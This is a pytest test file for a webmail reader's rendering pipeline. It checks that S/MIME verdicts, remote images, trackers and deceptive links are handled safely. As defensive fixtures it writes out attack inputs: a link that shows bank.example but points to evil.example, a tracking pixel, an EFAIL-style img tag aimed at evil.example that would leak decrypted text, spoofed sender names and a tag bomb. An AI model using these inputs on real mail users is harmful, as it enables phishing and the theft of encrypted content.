"""The pipeline over mails made here: what each state of trust allows, what is kept apart."""

from datetime import UTC, datetime, timedelta

import pytest

from smime.pki.authority import Authority, issue, new_root
from smime.pki.pkcs12 import KeyPair
from smime.reading import Reading, read_message
from smime.verdict import Context
from smime.writing import protect
from webmail.mime import Address, decode_body
from webmail.mime.write import Attachment, Composition, assemble, build_entity, header_fields
from webmail.reader import pipeline, words
from webmail.reader.notices import notices
from webmail.reader.variants import Variant

NOW = datetime(2026, 11, 20, 12, tzinfo=UTC)
TRACKED = (
    '<p>Hello <a href="https://evil.example/">https://bank.example/</a></p>'
    '<img src="https://pictures.example/a.png"><img src="https://t.example/o" width=1 height=1>'
)


class Numbered:
    """URLs that say what they point at."""

    def image(self, position: int) -> str:
        return f"/img/{position}"

    def part(self, path: str) -> str:
        return f"/part/{path}"

    def go(self, position: int) -> str:
        return f"/go/{position}"


@pytest.fixture(scope="module")
def root() -> Authority:
    return new_root("Test root", NOW - timedelta(days=100))


def key(root: Authority, address: str) -> KeyPair:
    before, after = NOW - timedelta(days=50), NOW + timedelta(days=50)
    return issue(
        root, address, address.partition("@")[0], not_before=before, not_after=after, key="p256"
    )


@pytest.fixture(scope="module")
def alice(root: Authority) -> KeyPair:
    return key(root, "alice@example.test")


@pytest.fixture(scope="module")
def bob(root: Authority) -> KeyPair:
    return key(root, "bob@example.test")


def composition(**changes: object) -> Composition:
    return Composition(
        **{
            "from_": Address("Alice", "alice@example.test"),
            "to": (Address("Bob", "bob@example.test"),),
            "subject": "Plans",
            "date": NOW,
            "message_id": "one@example.test",
            "text": "The plan is this.\n",
            **changes,
        }
    )


def protected(made: Composition, signer: KeyPair, *readers: KeyPair) -> bytes:
    return protect(
        build_entity(made),
        header_fields(made),
        signer=signer,
        recipients=[reader.certificate for reader in readers],
        cipher="aes-256-gcm",
        signing_time=NOW,
    )


def make(
    reading: Reading, root: Authority | None = None, variant: Variant | None = None
) -> pipeline.Rendered:
    anchors = (root.certificate,) if root else ()
    context = Context(now=NOW, received_at=NOW, anchors=anchors)
    return pipeline.make(
        reading=reading, context=context, variant=variant or Variant(), addresses=Numbered()
    )


def test_remote_images_wait_until_asked_and_then_come_by_the_proxy() -> None:
    raw = assemble(header_fields(composition()), build_entity(composition(html=TRACKED)))
    blocked = make(read_message(raw))
    assert blocked.page["images"]["remote"] == 1
    assert blocked.page["images"]["trackers"] == 1
    assert "pictures.example" not in blocked.documents.frames[0]
    loaded = make(read_message(raw), variant=Variant(images=True))
    assert loaded.documents.images == ("https://pictures.example/a.png",)
    assert "/img/0" in loaded.documents.frames[0]
    assert "t.example" not in loaded.documents.frames[0]


def test_deceptive_links_lead_to_the_page_that_names_the_host() -> None:
    raw = assemble(header_fields(composition()), build_entity(composition(html=TRACKED)))
    made = make(read_message(raw))
    assert made.page["has_deceptive_links"]
    assert made.documents.targets == ("https://evil.example/",)
    assert 'href="/go/0"' in made.documents.frames[0]


def test_a_broken_seal_shows_text_without_links_or_images(root: Authority, alice: KeyPair) -> None:
    mail = composition(html=TRACKED, text="Pay at https://evil.example/ now.\n")
    raw = protected(mail, alice).replace(b"Pay at", b"Pay to")
    reading = read_message(raw)
    context = Context(
        now=NOW,
        received_at=NOW,
        anchors=(root.certificate,),
        known_certificates=(alice.certificate,),
    )
    made = pipeline.make(
        reading=reading, context=context, variant=Variant(images=True), addresses=Numbered()
    )
    assert made.verdict.level == "bad"
    assert made.page["is_plain_only"]
    assert not made.page["images"]["may_load"]
    view = words.verdict_view(made.page["verdict"])
    assert "headers-protected" in dict(made.page["verdict"]["notes"])
    assert view.notes == ()  # a broken seal protects nothing
    assert all(answer.glyph != "yes" for answer in view.answers)
    (frame,) = made.documents.frames
    assert "Pay to https://evil.example/" in frame
    assert "<a " not in frame
    assert "<img" not in frame


def test_encrypted_and_signed_is_opened_told_and_kept_secret(
    root: Authority, alice: KeyPair, bob: KeyPair
) -> None:
    mail = composition(attachments=(Attachment("plan.pdf", "application/pdf", b"%PDF-1.4 x"),))
    reading = read_message(protected(mail, alice, bob), keys=[bob])
    made = make(reading, root)
    verdict = made.page["verdict"]
    assert (verdict["code"], verdict["encryption_code"], verdict["level"]) == (
        "signed-not-rechecked",  # no revocation list is at hand
        "encrypted-signed",
        "ok",
    )
    assert made.page["subject"] == "Plans"
    assert "The plan is this." in made.documents.frames[0]
    assert made.page["attachments"][0][1:3] == ["plan.pdf", "application/pdf"]
    assert pipeline.holds_secrets(reading)
    tree, part = pipeline.part_of(reading, made.page["attachments"][0][0])
    assert part.content_type == "application/pdf"
    assert tree is reading.content


def test_without_the_key_nothing_is_shown(root: Authority, alice: KeyPair, bob: KeyPair) -> None:
    reading = read_message(protected(composition(), alice, bob), keys=[])
    made = make(reading, root)
    assert made.page["verdict"]["encryption_code"] in {"no-own-key", "key-missing"}
    assert made.documents.frames == ()
    assert made.page["subject"] != "Plans"


def test_an_encrypted_part_has_a_frame_of_its_own_and_loads_nothing(
    root: Authority, alice: KeyPair, bob: KeyPair
) -> None:
    inner = protected(composition(html=TRACKED), alice, bob)
    entity_start = inner.index(b"Content-Type: application/pkcs7-mime")
    headers_end = inner.index(b"\r\n\r\n")
    secured = inner[entity_start:headers_end] + inner[headers_end:]
    raw = (
        b"From: Alice <alice@example.test>\r\nTo: bob@example.test\r\nSubject: mixed\r\n"
        b'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="m"\r\n\r\n'
        b"--m\r\nContent-Type: text/html\r\n\r\n<img src='http://evil.example/?\r\n"
        b"--m\r\n" + secured + b"\r\n--m\r\nContent-Type: text/html\r\n\r\n'>\r\n--m--\r\n"
    )
    reading = read_message(raw, keys=[bob])
    made = make(reading, root, Variant(images=True))
    assert made.page["verdict"]["encryption_code"] == "partly-encrypted"
    assert pipeline.holds_secrets(reading)
    secret = [frame for frame in made.documents.frames if "Hello" in frame]
    assert len(secret) == 1
    assert "evil.example/?" not in secret[0]
    assert "/img/" not in secret[0]
    position = made.documents.frames.index(secret[0])
    assert [each for each in made.page["frames"] if each.get("document") == position] == [
        {"layer": 1, "document": position, "outside": ""}
    ]


def test_names_that_hold_another_address_or_a_seal_are_not_shown() -> None:
    mail = composition(from_=Address("ceo@bank.example \u2705", "alice@example.test"))
    made = make(read_message(assemble(header_fields(mail), build_entity(mail))))
    assert made.page["from"] == [["", "alice@example.test"]]
    seal = composition(from_=Address("Alice \u2705\U0001f512", "alice@example.test"))
    made = make(read_message(assemble(header_fields(seal), build_entity(seal))))
    assert made.page["from"] == [["Alice", "alice@example.test"]]


def test_unknown_parts_are_not_found() -> None:
    mail = composition()
    reading = read_message(assemble(header_fields(mail), build_entity(mail)))
    for path in ("1/1", "0/7", "x/1", "-1/1", "²/1", f"{'1' * 5000}/1", f"0/{'1' * 5000}"):
        with pytest.raises(KeyError):
            pipeline.part_of(reading, path)


def test_limits_and_gaps_are_said_in_words_once_each() -> None:
    deep = "".join(
        f'Content-Type: multipart/mixed; boundary="{level}"\n\n--{level}\n' for level in range(30)
    )
    made = make(read_message(f"From: a@b.example\n{deep}\nx".encode()))
    said = notices(made.page["limits"])
    assert any("parts beyond level 20 are not shown. Download the original." in one for one in said)
    long = make(read_message(b"From: a@b.example\n\n" + b"word " * 500_000))
    assert notices(long.page["limits"]) == (
        "The text is longer than 2 MB and was cut. Download the original to read on.",
    )
    bomb = b"From: a@b.example\nContent-Type: text/html\n\n" + b"<div>" * 2_000
    assert len(notices([*make(read_message(bomb)).page["limits"], "tags", "writer"])) == 1
    piece = b"From: a@b.example\nContent-Type: message/partial; id=x; number=1; total=2\n\nx"
    assert "one piece" in notices(make(read_message(piece)).page["limits"])[0]


def test_files_inside_a_text_are_attachments_of_their_own() -> None:
    text = b"Hello\nbegin 644 note.txt\n%:&5L;&\\\n`\nend\nBye\n"
    reading = read_message(b"From: a@b.example\nSubject: x\n\n" + text)
    made = make(reading)
    ((path, name, content_type, size, is_dangerous),) = made.page["attachments"]
    assert (name, content_type, size, is_dangerous) == ("note.txt", "text/plain", 5, False)
    tree, part = pipeline.part_of(reading, path)
    assert decode_body(tree, part) == b"hello"
    assert "begin 644" not in made.documents.frames[0]


def test_always_from_a_sender_means_their_verified_mail(root: Authority, alice: KeyPair) -> None:
    """Whoever writes the sender's address into From gets no image loaded by it."""
    always = Variant(verified_images=True)
    forged = assemble(header_fields(composition()), build_entity(composition(html=TRACKED)))
    made = make(read_message(forged), root, always)
    assert made.documents.images == ()
    assert made.page["images"]["remote"] == 1
    made = make(read_message(protected(composition(html=TRACKED), alice)), root, always)
    assert made.verdict.level == "ok"
    assert made.documents.images == ("https://pictures.example/a.png",)
    assert made.page["images"]["remote"] == 1


@pytest.mark.parametrize(
    ("theme", "shade", "rule"),
    [
        ("light", "", "only light}"),
        ("dark", "light", "html{background:#fff;padding"),
        ("inverted", "dark", "invert(1)"),
        ("card", "light", "html{background:#fff;padding"),
    ],
)
def test_mail_with_colours_of_its_own_is_dark_only_if_asked(theme, shade, rule) -> None:
    raw = assemble(header_fields(composition()), build_entity(composition(html=TRACKED)))
    variant = Variant(theme=theme)
    made = make(read_message(raw), variant=variant)
    assert variant.shade(made.page["colours"]) == shade
    assert rule in made.documents.frames[0]
    assert Variant.parse(Variant(theme=theme, verified_images=True).key).theme == theme
